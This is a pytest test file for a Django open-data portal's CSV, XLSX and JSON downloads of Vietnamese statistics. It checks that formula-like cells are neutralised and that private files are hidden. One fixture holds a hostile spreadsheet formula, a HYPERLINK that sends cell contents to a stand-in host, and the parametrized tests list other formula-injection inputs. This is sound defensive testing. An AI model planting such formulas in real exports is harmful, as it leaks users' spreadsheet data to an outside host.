"""Downloads read back with the tools a reader would use give the published observations, and
no cell of them runs as a formula in a spreadsheet."""

import csv
import datetime
import io
import json
import uuid

import pytest
from bs4 import BeautifulSoup
from django.core.files.base import ContentFile
from openpyxl import load_workbook

from cityportal.opendata.exports import COLUMNS, neutralise
from cityportal.opendata.models import Observation, Resource, ResourceVersion

HOSTILE_NOTE = '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm")'


@pytest.fixture
def resource(make_dataset):
    dataset = make_dataset(
        [
            ("Dân số trung bình", "nghìn người", "79", 2022, 9389.7),
            ("Dân số trung bình", "nghìn người", "79", 2023, 9456.7),
            ("Chỉ số giá tiêu dùng", "%", "79", 2023, -1.25, "Nhà ở"),
            ("Chỉ số giá tiêu dùng", "%", "VN", 2023, 3.25, "-Nhà ở"),
        ],
        name="dan-so-va-gia",
    )
    # Figures without a source of their own are the dataset's: a download names it on each row,
    # as the API does (the column was empty, and a reader's copy lost where figures came from).
    dataset.source = "Cục Thống kê TP. Hồ Chí Minh"
    dataset.save()
    Observation.objects.filter(period="2023", indicator__name="Dân số trung bình").update(
        provisional=True, as_of=datetime.date(2024, 3, 31), note=HOSTILE_NOTE, source="@cuc"
    )
    return dataset.resources.get()


def expected(resource) -> list[dict]:
    """The observations as the columns promise them, in download order."""
    rows = []
    for o in Observation.objects.filter(resource=resource).select_related("indicator", "unit"):
        rows.append(
            {
                "indicator": o.indicator.name,
                "measure": o.indicator.measure,
                "unit_code": o.unit.code,
                "unit_name": o.unit.name,
                "period": o.period,
                "breakdown": o.breakdown,
                "value": o.value,
                "status": o.status,
                "as_of": o.as_of,
                "note": o.note,
                "source": o.source or resource.dataset.source,
            }
        )
    return sorted(rows, key=lambda r: (r["indicator"], r["period"], r["unit_name"]))


def content(response) -> bytes:
    return b"".join(response.streaming_content)


def test_csv_reads_back_as_the_observations_and_opens_in_excel(client, resource):
    response = client.get(resource.download_url("csv"))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        'attachment; filename="dan-so-va-gia-bang-so-lieu.csv"'
    )
    body = content(response)
    assert body.startswith("\ufeff".encode())  # Excel's cue that the file is UTF-8
    reader = csv.DictReader(io.StringIO(body.decode("utf-8-sig")))
    assert reader.fieldnames == COLUMNS
    rows = list(reader)
    want = expected(resource)
    assert len(rows) == len(want) == 4
    for got, row in zip(rows, want, strict=True):
        assert float(got["value"]) == row["value"]
        assert got["as_of"] == (row["as_of"].isoformat() if row["as_of"] else "")
        for column in ("indicator", "measure", "unit_code", "unit_name", "period", "status"):
            assert got[column] == row[column]
    assert rows[0]["indicator"] == "Chỉ số giá tiêu dùng"  # Vietnamese letters intact


def test_csv_and_xlsx_neutralise_formulas_but_keep_negative_numbers(client, resource):
    rows = list(
        csv.DictReader(
            io.StringIO(content(client.get(resource.download_url("csv"))).decode("utf-8-sig"))
        )
    )
    by_period = {(r["indicator"], r["period"], r["unit_code"]): r for r in rows}
    hostile = by_period["Dân số trung bình", "2023", "79"]
    assert hostile["note"] == "'" + HOSTILE_NOTE
    assert hostile["source"] == "'@cuc"
    assert by_period["Chỉ số giá tiêu dùng", "2023", "VN"]["breakdown"] == "'-Nhà ở"
    assert by_period["Chỉ số giá tiêu dùng", "2023", "79"]["value"] == "-1.25"

    response = client.get(resource.download_url("xlsx"))
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = workbook.active
    header, *cells = list(sheet.iter_rows())
    column = {c.value: n for n, c in enumerate(header)}
    for row in cells:
        for cell in row:
            assert cell.data_type != "f", cell.value  # nothing is stored as a formula
    hostile = next(r for r in cells if r[column["note"]].value)
    assert hostile[column["note"]].value == "'" + HOSTILE_NOTE
    assert hostile[column["source"]].value == "'@cuc"
    negative = next(
        r for r in cells if r[column["unit_code"]].value == "79" and r[0].value[0] == "C"
    )
    assert negative[column["value"]].value == -1.25
    assert negative[column["value"]].data_type == "n"


def test_xlsx_reads_back_as_the_observations(client, resource):
    response = client.get(resource.download_url("xlsx"))
    assert response["Content-Disposition"] == (
        'attachment; filename="dan-so-va-gia-bang-so-lieu.xlsx"'
    )
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    header, *rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert header == COLUMNS
    for got, want in zip(rows, expected(resource), strict=True):
        got = dict(zip(COLUMNS, got, strict=True))
        assert got["value"] == want["value"]
        assert isinstance(got["value"], float | int)
        assert (got["as_of"].date() if got["as_of"] else None) == want["as_of"]
        for column in ("indicator", "unit_name", "period", "status"):
            assert got[column] == want[column]


def test_json_holds_the_observations_unchanged(client, resource):
    response = client.get(resource.download_url("json"))
    data = json.loads(content(response))
    assert data["resource"]["id"] == str(resource.id)
    assert data["fields"] == COLUMNS
    want = expected(resource)
    for row in want:
        row["as_of"] = row["as_of"].isoformat() if row["as_of"] else None
    assert data["records"] == want  # JSON is not a spreadsheet: text as published


def test_large_csv_is_streamed(client, resource):
    assert client.get(resource.download_url("csv")).streaming


def test_unknown_format_and_resource_are_not_found(client, resource):
    assert client.get(f"/du-lieu/tai-ve/{resource.id}.pdf").status_code == 404
    assert client.get(f"/du-lieu/tai-ve/{uuid.uuid4()}.csv").status_code == 404


def test_earlier_version_serves_the_original_file(client, resource, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    original = "chỉ tiêu,giá trị\n=1+1,5\n".encode()
    version = ResourceVersion.objects.create(
        resource=resource,
        file=ContentFile(original, name="dan-so-2023.csv"),
        original_name="Dân số 2023.csv",
        sha256="0" * 64,
        size=len(original),
        rows=1,
    )
    response = client.get(f"/du-lieu/tai-ve/{resource.id}/phien-ban/{version.id}/")
    assert response.status_code == 200
    assert b"".join(response.streaming_content) == original  # exactly as uploaded
    assert response["Content-Disposition"].startswith("attachment;")
    assert "filename*=utf-8''D%C3%A2n%20s%E1%BB%91%202023.csv" in response["Content-Disposition"]

    other = Resource.objects.create(dataset=resource.dataset, name="Khác", format="CSV")
    assert client.get(f"/du-lieu/tai-ve/{other.id}/phien-ban/{version.id}/").status_code == 404


def test_private_dataset_files_are_not_found(client, resource, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    version = ResourceVersion.objects.create(
        resource=resource,
        file=ContentFile(b"x", name="a.csv"),
        original_name="a.csv",
        sha256="0" * 64,
        size=1,
        rows=1,
    )
    resource.dataset.private = True
    resource.dataset.save()
    for fmt in ("csv", "xlsx", "json"):
        assert client.get(resource.download_url(fmt)).status_code == 404
    assert client.get(f"/du-lieu/tai-ve/{resource.id}/phien-ban/{version.id}/").status_code == 404


@pytest.mark.parametrize("text", ["=1+1", "+84 28", "-Nhà ở", "@SUM(A1)", "\t=1", "\r=1"])
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["Hà Nội", "", "2023-Q1", -5.2, 0.0, None])
def test_other_values_are_left_alone(value):
    assert neutralise(value) == value


def test_dataset_page_tells_excel_users_to_pick_xlsx_and_the_csv_is_as_it_says(client, resource):
    """A reporter whose Excel is set to Vietnamese (";" between columns, "," before decimals)
    opened the CSV and got each row in one column, or 9.389,7 where 9389.7 was meant; nothing
    beside the links said the XLSX was the file for Excel."""
    html = client.get(resource.dataset.get_absolute_url()).content.decode()
    links = BeautifulSoup(html, "html.parser").select_one("p.downloads")
    hint = " ".join(links.find_next_sibling("p").get_text().split())
    assert hint.startswith("Mở bằng Excel: chọn XLSX.")
    assert "CSV (UTF-8 có BOM, dấu phẩy phân cách cột, dấu chấm thập phân)" in hint
    # …which is what the CSV is: for programs, the BOM kept for Excel's UTF-8 (see above).
    body = content(client.get(resource.download_url("csv"))).decode("utf-8")
    header, first = body.splitlines()[:2]
    assert header == "\ufeff" + ",".join(COLUMNS)
    assert first.split(",")[COLUMNS.index("value")] == "-1.25"
